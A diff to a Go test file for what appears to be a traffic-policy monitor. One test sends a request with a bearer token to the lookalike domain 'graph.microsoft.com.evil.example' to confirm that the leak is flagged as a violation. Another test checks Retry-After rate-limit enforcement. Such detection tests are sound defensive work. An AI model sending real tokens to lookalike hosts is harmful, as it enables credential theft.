@@ -60,7 +60,10 @@ func TestTokensElsewhereAreViolations(t *testing.T) {
 	r, err := http.NewRequestWithContext(t.Context(), http.MethodGet, "https://graph.microsoft.com.evil.example/v1.0/users", nil)
 	require.NoError(t, err)
 	r.Header.Set("Authorization", "Bearer "+c.token)
-	_, err = c.http.Do(r)
+	resp, err := c.http.Do(r)
+	if err == nil {
+		resp.Body.Close()
+	}
 	require.Error(t, err)
 	require.Len(t, s.Violations(), 1)
 	require.Contains(t, s.Violations()[0], "graph.microsoft.com.evil.example, with a token: true")
@@ -149,7 +152,7 @@ func TestLimits(t *testing.T) {
 				require.NoError(t, err)
 				require.Equal(t, c.window, time.Duration(wait)*time.Second)
 				time.Sleep(time.Duration(wait)*time.Second - time.Millisecond)
-				status, _, _ = client.get(path)
+				client.get(path)
 				require.Len(t, s.Violations(), 1, "a call a millisecond too early")
 				require.Contains(t, s.Violations()[0], "before Retry-After had passed")
 				time.Sleep(c.window)
